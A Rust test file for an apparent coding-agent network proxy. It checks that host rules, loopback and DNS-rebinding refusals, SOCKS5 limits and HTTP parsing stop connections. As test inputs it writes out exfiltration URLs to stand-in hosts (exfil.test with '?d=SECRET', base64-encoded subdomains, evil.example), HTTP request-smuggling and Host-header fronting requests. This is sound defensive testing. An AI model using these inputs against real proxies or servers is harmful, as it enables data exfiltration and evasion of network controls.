//! The network proxy (docs/network.md) against local fakes: curl through HTTP
//! (plain and `CONNECT`) and SOCKS5, the host policy deciding each destination —
//! a registry allowed by default on its ports only, a deny rule over it, an
//! unknown host and a loopback address refused without a connection, a made-up
//! name resolved by the proxy (nothing leaves), SOCKS5 UDP refused; a plain HTTP
//! request whose `Host` header names another host refused before anything is
//! judged or connected; exactly one judged request (and its body) forwarded per
//! upstream connection, and framing that could smuggle another refused.

use crate::tools_support;

use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;

use decode_engine::net::{GateJudge, NetVerdict, Proxy, Resolver};
use decode_policy::Mode;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tools_support::Project;
use wiremock::matchers::method;
use wiremock::{Mock, MockServer, ResponseTemplate};

const LOCAL: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);

/// A proxy on 127.0.0.1 for `p` (settings as written), where `registry.npmjs.org`
/// and `exfil.test` are public hosts at 127.0.0.1.
async fn proxy(p: &Project) -> (u16, Arc<GateJudge>) {
    proxy_with(
        p,
        Resolver::default()
            .with_public("registry.npmjs.org", LOCAL)
            .with_public("exfil.test", LOCAL),
    )
    .await
}

/// A proxy on 127.0.0.1 for `p` with `resolver`.
async fn proxy_with(p: &Project, resolver: Resolver) -> (u16, Arc<GateJudge>) {
    let judge = Arc::new(GateJudge::new(p.state(Mode::Auto)));
    let proxy = Arc::new(Proxy::new(Arc::new(resolver), judge.clone()));
    let listener = TcpListener::bind((LOCAL, 0)).await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(proxy.serve_tcp(listener));
    (port, judge)
}

async fn upstream(body: &str) -> MockServer {
    let s = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_raw(body.to_string(), "text/plain"))
        .mount(&s)
        .await;
    s
}

/// curl with `args`; (exit code, stdout, stderr).
async fn curl(args: &[&str]) -> (i32, String, String) {
    let o = tokio::process::Command::new("curl")
        .args(["-sS", "--max-time", "10", "--noproxy", ""])
        .args(args)
        .env_remove("http_proxy")
        .env_remove("https_proxy")
        .env_remove("HTTPS_PROXY")
        .env_remove("ALL_PROXY")
        .output()
        .await
        .expect("curl runs");
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

/// A registry on its default port (80: the fake listens elsewhere and the test
/// resolver sends `registry.npmjs.org:80` there) through each protocol; on another
/// port it is refused like a host no rule allows.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_registry_is_reached_through_every_protocol_on_its_ports_only() {
    let p = Project::new();
    let up = upstream("package index").await;
    let (port, judge) = proxy_with(
        &p,
        Resolver::default().with_public_port("registry.npmjs.org", 80, LOCAL, up.address().port()),
    )
    .await;
    let url = "http://registry.npmjs.org/pkg".to_string();
    let via = format!("http://127.0.0.1:{port}");
    let socks = format!("socks5h://127.0.0.1:{port}");
    for args in [
        vec!["-x", via.as_str(), url.as_str()],
        vec!["-p", "-x", via.as_str(), url.as_str()],
        vec!["-x", socks.as_str(), url.as_str()],
    ] {
        let (code, out, err) = curl(&args).await;
        assert_eq!(code, 0, "{args:?}: {err}");
        assert_eq!(out, "package index", "{args:?}");
    }
    let events = judge.take_events();
    assert_eq!(events.len(), 3, "{events:?}");
    assert!(events.iter().all(|e| e.verdict == NetVerdict::Allow));
    assert_eq!(up.received_requests().await.unwrap().len(), 3);
    // The same registry on the fake's own port: not a port the default covers.
    let other = format!("http://registry.npmjs.org:{}/pkg", up.address().port());
    for args in [
        vec!["-x", via.as_str(), other.as_str()],
        vec!["-p", "-x", via.as_str(), other.as_str()],
        vec!["-x", socks.as_str(), other.as_str()],
    ] {
        let (code, out, err) = curl(&args).await;
        assert!(!out.contains("package index"), "{args:?}: {out}");
        assert!(
            code != 0 || out.contains("Decode's network proxy"),
            "{args:?}: {err}"
        );
    }
    let events = judge.take_events();
    assert_eq!(events.len(), 3, "{events:?}");
    assert!(
        events.iter().all(|e| matches!(&e.verdict,
            NetVerdict::Refuse(r) if r.contains("allowed by default on ports 443 and 80 only"))),
        "{events:?}"
    );
    assert_eq!(up.received_requests().await.unwrap().len(), 3);
}

/// Sends `request` to the proxy at `port` as it is; what came back.
async fn raw(port: u16, request: &str) -> String {
    let mut s = TcpStream::connect((LOCAL, port)).await.unwrap();
    s.write_all(request.as_bytes()).await.unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(std::time::Duration::from_secs(10), s.read_to_end(&mut out)).await;
    String::from_utf8_lossy(&out).into_owned()
}

/// Domain fronting over plain HTTP: a request in absolute form whose `Host` header
/// names another host (or port) than its target is refused before anything is
/// judged, resolved or connected (a server behind a shared front picks the site by
/// `Host`); a missing `Host` is set to the target's, a matching one passes; URLs
/// two parsers could read as different hosts are refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_header_naming_another_host_is_refused() {
    let p = Project::new();
    p.write(
        ".decode/settings.json",
        r#"{"permissions": {"allow": ["net(domain:exfil.test)"]}}"#,
    );
    let (port, judge) = proxy(&p).await;
    let up = upstream("tenant").await;
    let up_port = up.address().port();
    for (request, why) in [
        (
            format!("GET http://exfil.test:{up_port}/a HTTP/1.1\r\nHost: 127.0.0.1:{up_port}\r\n\r\n"),
            "the Host header names `127.0.0.1:",
        ),
        (
            format!("GET http://exfil.test:{up_port}/a HTTP/1.1\r\nHost: other-tenant.example\r\n\r\n"),
            "not the request's target exfil.test:",
        ),
        (
            format!("GET http://exfil.test:{up_port}/a HTTP/1.1\r\nHost: exfil.test\r\n\r\n"),
            "Host header",
        ),
        (
            format!("GET http://exfil.test:{up_port}/a HTTP/1.1\r\nHost: exfil.test:{up_port}\r\nHost: other.example\r\n\r\n"),
            "more than one Host",
        ),
        // A bare LF ends a line for many servers: it does for the proxy too.
        (
            format!("GET http://exfil.test:{up_port}/a HTTP/1.1\nHost: other.example\n\n"),
            "Host header",
        ),
        (
            format!("GET http://exfil.test:{up_port}/a HTTP/1.1\r\nHost: exfil.test:{up_port}\r\n other.example\r\n\r\n"),
            "folded",
        ),
        (
            format!("GET http://exfil.test:{up_port}/a HTTP/1.1\rHost: other.example\r\n\r\n"),
            "bare CR",
        ),
        (
            format!("GET http://127.0.0.1:{up_port}#@exfil.test:{up_port}/abs6 HTTP/1.1\r\n\r\n"),
            "fragment",
        ),
        (
            format!("GET http://127.0.0.1:{up_port}@exfil.test:{up_port}/ HTTP/1.1\r\n\r\n"),
            "credentials",
        ),
    ] {
        let got = raw(port, &request).await;
        assert!(got.starts_with("HTTP/1.1 400 "), "{request:?}: {got}");
        assert!(got.contains(why), "{request:?}: {got}");
    }
    assert!(up.received_requests().await.unwrap().is_empty());
    assert!(judge.take_events().is_empty(), "refused before judging");
    // No Host: the target's is sent. The same host written otherwise passes.
    let got = raw(
        port,
        &format!("GET http://exfil.test:{up_port}/none HTTP/1.1\r\nAccept: */*\r\n\r\n"),
    )
    .await;
    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
    assert!(got.ends_with("tenant"), "{got}");
    let got = raw(
        port,
        &format!(
            "GET http://exfil.test:{up_port}/same HTTP/1.1\r\nhost: EXFIL.test.:{up_port}\r\n\r\n"
        ),
    )
    .await;
    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
    let seen = up.received_requests().await.unwrap();
    assert_eq!(seen.len(), 2);
    assert_eq!(seen[0].url.path(), "/none");
    assert_eq!(
        seen[0]
            .headers
            .get("host")
            .map(|h| h.to_str().unwrap().to_string()),
        Some(format!("exfil.test:{up_port}"))
    );
    assert_eq!(seen[1].url.path(), "/same");
}

/// A fake HTTP server on 127.0.0.1 that records every byte each connection sends
/// it: it reads one request (its head and a `Content-Length` or chunked body), answers
/// `got N bytes` and closes its side, then keeps reading (and recording) until the
/// other side closes.
struct RawUpstream {
    port: u16,
    seen: Arc<std::sync::Mutex<Vec<Vec<u8>>>>,
}

impl RawUpstream {
    async fn start() -> RawUpstream {
        let listener = TcpListener::bind((LOCAL, 0)).await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(std::sync::Mutex::new(Vec::new()));
        let all = seen.clone();
        tokio::spawn(async move {
            while let Ok((mut s, _)) = listener.accept().await {
                let all = all.clone();
                tokio::spawn(async move {
                    let i = {
                        let mut all = all.lock().unwrap();
                        all.push(Vec::new());
                        all.len() - 1
                    };
                    let mut got = Vec::new();
                    let mut buf = [0u8; 64 * 1024];
                    let mut answered = false;
                    loop {
                        let n = match tokio::time::timeout(
                            std::time::Duration::from_secs(10),
                            s.read(&mut buf),
                        )
                        .await
                        {
                            Ok(Ok(n)) if n > 0 => n,
                            _ => break,
                        };
                        got.extend_from_slice(&buf[..n]);
                        all.lock().unwrap()[i] = got.clone();
                        if answered {
                            continue;
                        }
                        let Some(end) = got.windows(4).position(|w| w == b"\r\n\r\n") else {
                            continue;
                        };
                        let head = String::from_utf8_lossy(&got[..end]).to_lowercase();
                        let length: usize = head
                            .lines()
                            .find_map(|l| l.strip_prefix("content-length:"))
                            .map(|v| v.trim().parse().unwrap())
                            .unwrap_or(0);
                        let body = got.len() - end - 4;
                        let chunked = head.contains("transfer-encoding: chunked");
                        if (chunked && got[end + 4..].ends_with(b"\r\n\r\n"))
                            || (!chunked && body >= length)
                        {
                            let text = format!("got {body} bytes");
                            let answer = format!(
                                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{text}",
                                text.len()
                            );
                            s.write_all(answer.as_bytes()).await.unwrap();
                            let _ = s.shutdown().await;
                            answered = true;
                        }
                    }
                });
            }
        });
        RawUpstream { port, seen }
    }

    /// What each connection sent, in the order they came.
    fn seen(&self) -> Vec<String> {
        self.seen
            .lock()
            .unwrap()
            .iter()
            .map(|b| String::from_utf8_lossy(b).into_owned())
            .collect()
    }
}

/// Request smuggling over plain HTTP: the proxy judges and checks every request it
/// forwards, so it forwards exactly one per upstream connection — the head, then
/// exactly its body, with `Connection: close` — and nothing the client sends after
/// it (a pipelined second request naming another host never reaches the server).
/// A body two readers could frame differently (`Content-Length` with
/// `Transfer-Encoding`, two lengths) is refused before anything is judged or
/// connected.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_the_judged_request_reaches_the_server() {
    let p = Project::new();
    p.write(
        ".decode/settings.json",
        r#"{"permissions": {"allow": ["net(domain:exfil.test)"]}}"#,
    );
    let (port, judge) = proxy(&p).await;
    let up = RawUpstream::start().await;
    let at = format!("exfil.test:{}", up.port);
    let smuggled = "GET /steal HTTP/1.1\r\nHost: evil.example\r\n\r\n";
    // Pipelined: a second request (absolute or origin form, another Host) behind
    // the first on a keep-alive connection.
    for second in [
        "GET http://evil.example/steal HTTP/1.1\r\nHost: evil.example\r\n\r\n".to_string(),
        smuggled.to_string(),
    ] {
        let got = raw(
            port,
            &format!(
                "GET http://{at}/a HTTP/1.1\r\nHost: {at}\r\nConnection: keep-alive\r\nProxy-Connection: keep-alive\r\nKeep-Alive: timeout=5\r\n\r\n{second}"
            ),
        )
        .await;
        assert!(got.starts_with("HTTP/1.1 200 OK"), "{got}");
        assert!(got.ends_with("got 0 bytes"), "{got}");
    }
    // A request with a body, then one smuggled behind it.
    let got = raw(
        port,
        &format!(
            "POST http://{at}/b HTTP/1.1\r\nHost: {at}\r\nContent-Length: 5\r\n\r\nhello{smuggled}"
        ),
    )
    .await;
    assert!(got.ends_with("got 5 bytes"), "{got}");
    let seen = up.seen();
    assert_eq!(seen.len(), 3, "{seen:?}");
    for s in &seen {
        assert!(!s.contains("steal") && !s.contains("evil"), "{s}");
        assert_eq!(s.matches(" HTTP/1.1\r\n").count(), 1, "{s}");
        assert!(s.contains("\r\nConnection: close\r\n\r\n"), "{s}");
        assert!(!s.to_lowercase().contains("keep-alive"), "{s}");
    }
    assert!(seen[0].starts_with("GET /a HTTP/1.1\r\n"), "{}", seen[0]);
    assert!(seen[2].starts_with("POST /b HTTP/1.1\r\n"), "{}", seen[2]);
    assert!(seen[2].ends_with("\r\n\r\nhello"), "{}", seen[2]);
    judge.take_events();

    // Framing a server could read otherwise than the proxy: refused, nothing
    // judged or connected.
    for (headers, why) in [
        (
            "Content-Length: 44\r\nTransfer-Encoding: chunked",
            "both Content-Length and Transfer-Encoding",
        ),
        (
            "Transfer-Encoding: chunked\r\nContent-Length: 5",
            "both Content-Length and Transfer-Encoding",
        ),
        (
            "Content-Length: 5\r\nContent-Length: 44",
            "more than one Content-Length",
        ),
        (
            "Content-Length: 5\r\nContent-Length: 5",
            "more than one Content-Length",
        ),
        ("Content-Length: 5, 44", "not a number of bytes"),
        ("Transfer-Encoding: xchunked", "other than `chunked`"),
        (
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
            "more than one Transfer-Encoding",
        ),
    ] {
        let request = format!(
            "POST http://{at}/c HTTP/1.1\r\nHost: {at}\r\n{headers}\r\n\r\n0\r\n\r\n{smuggled}"
        );
        let got = raw(port, &request).await;
        assert!(got.starts_with("HTTP/1.1 400 "), "{request:?}: {got}");
        assert!(got.contains(why), "{request:?}: {got}");
    }
    assert_eq!(up.seen().len(), 3, "nothing connected");
    assert!(judge.take_events().is_empty(), "refused before judging");

    // A chunked body goes up by its framing, and nothing after it.
    let chunked = "5;x=y\r\nhello\r\n6\r\n world\r\n0\r\nX-Sum: 1\r\n\r\n";
    let got = raw(
        port,
        &format!(
            "POST http://{at}/d HTTP/1.1\r\nHost: {at}\r\nTransfer-Encoding: chunked\r\n\r\n{chunked}{smuggled}"
        ),
    )
    .await;
    assert!(got.starts_with("HTTP/1.1 200 OK"), "{got}");
    let seen = up.seen();
    assert_eq!(seen.len(), 4, "{seen:?}");
    assert!(
        seen[3].ends_with(&format!("\r\n\r\n{chunked}")),
        "{}",
        seen[3]
    );
}

/// A large body arrives whole and the answer comes back — from a raw client and
/// from curl (which may wait for `100 Continue` before sending it).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_body_arrives_whole() {
    let p = Project::new();
    p.write(
        ".decode/settings.json",
        r#"{"permissions": {"allow": ["net(domain:exfil.test)"]}}"#,
    );
    let (port, _judge) = proxy(&p).await;
    let up = RawUpstream::start().await;
    let at = format!("exfil.test:{}", up.port);
    let body = "0123456789".repeat(300_000);
    let got = raw(
        port,
        &format!(
            "PUT http://{at}/up HTTP/1.1\r\nHost: {at}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        ),
    )
    .await;
    assert!(got.ends_with("got 3000000 bytes"), "{got}");
    let file = p.write("body.bin", &body);
    let via = format!("http://127.0.0.1:{port}");
    let (code, out, err) = curl(&[
        "-x",
        &via,
        "--data-binary",
        &format!("@{}", file.display()),
        &format!("http://{at}/curl"),
    ])
    .await;
    assert_eq!((code, out.as_str()), (0, "got 3000000 bytes"), "{err}");
    let seen = up.seen();
    assert_eq!(seen.len(), 2);
    for s in seen {
        assert!(s.ends_with(&format!("\r\n\r\n{body}")), "{}", s.len());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unknown_hosts_and_loopback_are_refused_without_a_connection() {
    let p = Project::new();
    let (port, judge) = proxy(&p).await;
    let up = upstream("secret sink").await;
    let via = format!("http://127.0.0.1:{port}");
    let socks = format!("socks5h://127.0.0.1:{port}");
    let up_port = up.address().port();
    let exfil = format!("http://exfil.test:{up_port}/?d=SECRET");
    let loopback = format!("http://127.0.0.1:{up_port}/");
    let localhost = format!("http://localhost:{up_port}/");
    for (args, needle) in [
        (
            vec!["-x", via.as_str(), exfil.as_str()],
            "no rule allows this host",
        ),
        (vec!["-p", "-x", via.as_str(), exfil.as_str()], ""),
        (vec!["-x", via.as_str(), loopback.as_str()], "loopback"),
        (
            vec!["-x", via.as_str(), localhost.as_str()],
            "no rule allows this host",
        ),
        (vec!["-x", socks.as_str(), exfil.as_str()], ""),
    ] {
        let (code, out, err) = curl(&args).await;
        assert!(!out.contains("secret sink"), "{args:?}: {out}");
        if needle.is_empty() {
            assert_ne!(code, 0, "{args:?}: {out} {err}");
        } else {
            assert!(out.contains(needle), "{args:?}: {out} {err}");
        }
    }
    assert!(up.received_requests().await.unwrap().is_empty());
    let events = judge.take_events();
    assert!(
        events
            .iter()
            .all(|e| matches!(&e.verdict, NetVerdict::Refuse(r) if r.contains("net(domain:"))),
        "{events:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_deny_rule_wins_over_the_registry_default_and_a_rule_allows() {
    let p = Project::new();
    p.write(
        ".decode/settings.json",
        r#"{"permissions": {"deny": ["net(domain:registry.npmjs.org)"], "allow": ["net(domain:exfil.test)"]}}"#,
    );
    let (port, _judge) = proxy(&p).await;
    let up = upstream("ok").await;
    let via = format!("http://127.0.0.1:{port}");
    let up_port = up.address().port();
    let (_, out, _) = curl(&["-x", &via, &format!("http://registry.npmjs.org:{up_port}/")]).await;
    assert!(
        out.contains("denied by rule net(domain:registry.npmjs.org)"),
        "{out}"
    );
    assert!(up.received_requests().await.unwrap().is_empty());
    let (code, out, _) = curl(&["-x", &via, &format!("http://exfil.test:{up_port}/")]).await;
    assert_eq!((code, out.as_str()), (0, "ok"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_are_resolved_by_the_proxy_and_udp_is_refused() {
    let p = Project::new();
    p.write(
        ".decode/settings.json",
        r#"{"permissions": {"allow": ["net(domain:made-up-name.invalid)"]}}"#,
    );
    let (port, judge) = proxy(&p).await;
    // A made-up name a rule allows: the proxy resolves it (the client sends nothing
    // anywhere), and it does not resolve.
    let via = format!("http://127.0.0.1:{port}");
    let (code, out, err) = curl(&["-x", &via, "http://made-up-name.invalid/"]).await;
    assert!(
        code != 0 || out.contains("cannot resolve"),
        "{code} {out} {err}"
    );
    assert!(judge.take_events().is_empty());
    // One no rule allows is refused by its name, never looked up.
    let (_, out, _) = curl(&["-x", &via, "http://c2VjcmV0.made-up.invalid/"]).await;
    assert!(out.contains("no rule allows this host"), "{out}");
    assert!(!out.contains("cannot resolve"), "{out}");
    // SOCKS5 UDP ASSOCIATE (3) and BIND (2): "command not supported".
    for cmd in [2u8, 3] {
        let mut s = TcpStream::connect((LOCAL, port)).await.unwrap();
        s.write_all(&[5, 1, 0]).await.unwrap();
        let mut r = [0u8; 2];
        s.read_exact(&mut r).await.unwrap();
        assert_eq!(r, [5, 0]);
        s.write_all(&[5, cmd, 0, 1, 1, 1, 1, 1, 0, 53])
            .await
            .unwrap();
        let mut r = [0u8; 10];
        s.read_exact(&mut r).await.unwrap();
        assert_eq!(r[1], 7, "cmd {cmd}");
    }
    // A SOCKS5 CONNECT to a host no rule allows: "not allowed by ruleset".
    let mut s = TcpStream::connect((LOCAL, port)).await.unwrap();
    s.write_all(&[5, 1, 0]).await.unwrap();
    let mut r = [0u8; 2];
    s.read_exact(&mut r).await.unwrap();
    let name = b"exfil.test";
    let mut req = vec![5, 1, 0, 3, name.len() as u8];
    req.extend_from_slice(name);
    req.extend_from_slice(&443u16.to_be_bytes());
    s.write_all(&req).await.unwrap();
    let mut r = [0u8; 10];
    s.read_exact(&mut r).await.unwrap();
    assert_eq!(r[1], 2);
}

/// An answer "for this session" is for a host's name and its public addresses: the
/// same name resolving to the host's loopback later (DNS rebinding) is refused again.
#[tokio::test]
async fn a_session_answer_never_covers_a_private_address_the_name_rebinds_to() {
    use decode_engine::net::Judge;
    let p = Project::new();
    let judge = GateJudge::new(p.state(Mode::Auto));
    let public: IpAddr = "93.184.216.34".parse().unwrap();
    assert!(matches!(
        judge.judge("rebind.example", 443, &[public]).await,
        NetVerdict::Refuse(_)
    ));
    judge.allow_for_session("rebind.example");
    assert_eq!(
        judge.judge("rebind.example", 443, &[public]).await,
        NetVerdict::Allow
    );
    let NetVerdict::Refuse(why) = judge.judge("rebind.example", 443, &[LOCAL]).await else {
        panic!("a rebound name reached the host's loopback");
    };
    assert!(why.contains("loopback"), "{why}");
}

/// Judged by name first: a name a deny or an ask rule names is never looked up (an
/// attacker's name carrying data never reaches DNS); an allowed name is judged again
/// by what it resolves to.
#[tokio::test]
async fn a_name_the_policy_refuses_or_asks_about_is_never_resolved() {
    use decode_engine::net::{decide_host, reaches_private};
    use decode_policy::{Call, Tool, Verdict};
    let p = Project::new();
    p.write(
        ".decode/settings.json",
        r#"{"permissions": {"allow": ["net(domain:localhost)"], "ask": ["net(domain:ask.example)"], "deny": ["net(*.denied.example)"]}}"#,
    );
    let state = p.state(Mode::Auto);
    // This resolver knows no name: a lookup of a made-up one comes back an error.
    let resolver = Resolver::default();
    for (call, verdict) in [
        (
            Call::new(Tool::Net, "c2VjcmV0.denied.example:443"),
            Verdict::Deny,
        ),
        (Call::new(Tool::Net, "ask.example:443"), Verdict::Ask),
        (
            Call::new(Tool::Net, "c2VjcmV0.attacker.example:443"),
            Verdict::Ask,
        ),
        (
            Call::new(Tool::WebFetch, "https://c2VjcmV0.denied.example/?d=1"),
            Verdict::Deny,
        ),
    ] {
        let subject = call.subject.clone();
        let j = decide_host(&state, call, &resolver).await;
        assert_eq!(
            j.decision.verdict, verdict,
            "{subject}: {}",
            j.decision.reason
        );
        assert!(j.resolved.is_none(), "{subject} was looked up");
    }
    // An allowed name is resolved (`localhost`, from the hosts file) and its
    // loopback address is judged: an exact rule names it, so it is allowed.
    let j = decide_host(
        &state,
        Call::new(Tool::Net, "localhost:8080"),
        &Resolver::system(),
    )
    .await;
    let Some(Ok(r)) = &j.resolved else {
        panic!(
            "localhost did not resolve: {:?}",
            j.resolved.map(|r| r.err())
        );
    };
    assert!(reaches_private("localhost", &r.addrs));
    assert_eq!(j.decision.verdict, Verdict::Allow, "{}", j.decision.reason);
    assert!(!reaches_private(
        "example.com",
        &["93.184.216.34".parse().unwrap()]
    ));
    assert!(reaches_private("[::1]", &[]));
}

/// A surface that connects nowhere (`decode check`, the hooks) resolves a name only
/// when its addresses could change the verdict: in bypass mode with no deny or ask
/// rule that could match an address, nothing is looked up; with one, the name is
/// resolved (and the rule refuses what resolves to its address).
#[tokio::test]
async fn a_check_in_bypass_mode_resolves_nothing_unless_a_rule_names_an_address() {
    use decode_engine::net::decide_host_if;
    use decode_policy::{Call, Tool, Verdict};
    let p = Project::new();
    p.write(
        ".decode/settings.json",
        r#"{"permissions": {"deny": ["net(*.denied.example)"], "ask": ["net(domain:ask.example)"]}}"#,
    );
    let state = p.state(Mode::Bypass);
    let gate = state.gate();
    assert!(!gate.addresses_matter(Mode::Bypass));
    // This resolver knows no name: a lookup of a made-up one comes back an error.
    let resolver = Resolver::default();
    for (subject, verdict) in [
        ("byp1.attacker.example:443", Verdict::Allow),
        ("x.denied.example:443", Verdict::Deny),
        ("ask.example:443", Verdict::Ask),
    ] {
        let j = decide_host_if(
            &|c| gate.decide(c, Mode::Bypass),
            Call::new(Tool::Net, subject),
            &resolver,
            gate.addresses_matter(Mode::Bypass),
        )
        .await;
        assert_eq!(
            j.decision.verdict, verdict,
            "{subject}: {}",
            j.decision.reason
        );
        assert!(j.resolved.is_none(), "{subject} was looked up");
    }
    // A deny rule naming an address: the name is resolved, in bypass mode too.
    p.write(
        ".decode/settings.json",
        r#"{"permissions": {"deny": ["net(domain:203.0.113.7)"]}}"#,
    );
    let state = p.state(Mode::Bypass);
    let gate = state.gate();
    assert!(gate.addresses_matter(Mode::Bypass));
    let j = decide_host_if(
        &|c| gate.decide(c, Mode::Bypass),
        Call::new(Tool::Net, "byp2.attacker.example:443"),
        &resolver,
        gate.addresses_matter(Mode::Bypass),
    )
    .await;
    assert!(j.resolved.is_some(), "not looked up");
}
